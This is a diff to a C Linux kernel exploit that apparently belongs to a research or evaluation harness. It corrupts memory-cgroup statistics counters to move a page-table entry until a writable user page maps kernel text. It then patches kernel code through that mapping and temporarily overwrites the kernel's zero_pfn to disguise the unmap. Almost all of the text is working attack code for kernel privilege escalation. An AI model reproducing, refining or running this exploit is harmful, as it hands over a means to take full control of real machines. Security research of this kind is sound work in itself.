@@ -4,7 +4,6 @@
  * counters are found by pointers in ordinary memory.
  */
 #include <errno.h>
-#include <stdio.h>
 #include <sys/mman.h>
 #include <unistd.h>
 
@@ -88,14 +87,13 @@ enum outcome rss_counter(void)
 /*
  * The same with the statistics of a memory cgroup, which struct page names.
  * What is subtracted there is compared with nothing: byte by byte it moves an
- * entry from a page of the attacker's down to the victim's.
+ * entry of the attacker's from the zero page down to kernel text.
  */
 #define MEMCG_SIZE	PAGE_SIZE	/* at most */
 #define PER_NODE_STATS	8	/* of a struct mem_cgroup_per_node; its memcg is first */
 #define PER_CPU_END	(1UL << 40)	/* of per-CPU pointers */
 #define STATS		64	/* at most */
 #define FILE_PAGES	256
-#define OWN_PAGES	65536	/* at most */
 
 struct statistics {
 	uint64_t memcg;
@@ -210,70 +208,49 @@ static int move_entry(const struct statistics *stats, int fd, uint64_t slot, uin
 	return err ?: subtract(stats, fd, slot + 3, pages / 4096);
 }
 
-/* One of ours that lies behind the victim's. */
-static volatile char *own_page_behind(uint64_t phys, struct slot *slot)
+/* The zero page lies behind text, and this one may be written. */
+static volatile char *map_zero_page(struct slot *slot)
 {
-	volatile char *own = mmap(NULL, OWN_PAGES * PAGE_SIZE, PROT_READ | PROT_WRITE,
-				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
-	int i;
+	volatile char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
+				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	uint64_t vma = find_vma(page);
 
-	madvise((void *)own, OWN_PAGES * PAGE_SIZE, MADV_NOHUGEPAGE);
-	for (i = 0; i < OWN_PAGES; i++, own += PAGE_SIZE) {
-		*own = 1;
-		if (!kwalk((uint64_t)own, LEVEL_PTE, 0, slot) && slot->phys > phys)
-			return own;
-	}
-	return NULL;
+	if (!vma || kwrite64(vma + VMA_PROT, writable_protection()))
+		return NULL;
+	(void)*page;
+	return kwalk((uint64_t)page, LEVEL_PTE, 0, slot) ? NULL : page;
 }
 
-/* It is mapped once more now, as those who unmap it will believe. */
-static void count_mapping(uint64_t phys)
+/* Who unmaps it shall take it for the zero page. */
+static void unmap_zero_page(volatile char *page, uint64_t phys)
 {
-	uint64_t page = page_of(direct_map_base() + phys);
-	int count;
+	uint64_t number = ksymbol("zero_pfn"), old = kread64(number);
 
-	kread(page + PAGE_MAPCOUNT, &count, sizeof(count));
-	count++;
-	kwrite(page + PAGE_MAPCOUNT, &count, sizeof(count));
-	add_reference(page, 1);
+	kwrite64(number, phys / PAGE_SIZE);
+	munmap((void *)page, PAGE_SIZE);
+	kwrite64(number, old);
 }
 
-static enum outcome move_down(const struct statistics *stats, int fd, volatile char **own,
-			      uint64_t phys)
-{
-	struct slot slot;
-	int err;
-
-	*own = own_page_behind(phys, &slot);
-	if (!*own)
-		return broken("no page of ours behind");
-	err = move_entry(stats, fd, slot.slot, (slot.phys - phys) / PAGE_SIZE);
-	if (!((slot.value ^ kread64(slot.slot)) & PTE_PFN_MASK))
-		return lost("the stores gave %d, and the entry is as it was", err);
-	flush_tlb();
-	count_mapping(phys);
-	return WON;
-}
-
-/* Where none of ours is behind the victim's page it is kernel text. */
 enum outcome memcg_statistics(void)
 {
-	int fd = memfd_create("statistics", 0);
-	struct statistics stats;
+	uint64_t phys = text_phys() & -PAGE_SIZE;
+	int fd = memfd_create("statistics", 0), err;
 	enum outcome outcome;
-	volatile char *own;
-	char text[64];
+	struct statistics stats;
+	volatile char *page;
+	struct slot slot;
 
 	stay_on_cpu(0);
 	if (fd < 0 || ftruncate(fd, FILE_PAGES * PAGE_SIZE) || !forge_statistics(&stats, fd))
 		return broken("no statistics found");
-	outcome = move_down(&stats, fd, &own, victim_phys() & -PAGE_SIZE);
-	if (outcome == WON) {
-		snprintf(text, sizeof(text), "%s", (char *)own);
-		return judge_secret(text, 0);
-	}
-	if (outcome == BROKEN)
-		outcome = move_down(&stats, fd, &own, text_phys() & -PAGE_SIZE);
-	return outcome == WON ? patch_text_in_user_mapping((char *)own + text_phys() % PAGE_SIZE) :
-				outcome;
+	page = map_zero_page(&slot);
+	if (!page || slot.phys < phys)
+		return broken("no zero page behind text");
+	err = move_entry(&stats, fd, slot.slot, (slot.phys - phys) / PAGE_SIZE);
+	if ((kread64(slot.slot) & PTE_PFN_MASK) != phys)
+		return lost("the stores gave %d, and the entry does not map text", err);
+	flush_tlb();
+	outcome = patch_text_in_user_mapping((char *)page + text_phys() % PAGE_SIZE);
+	unmap_zero_page(page, phys);
+	return outcome;
 }
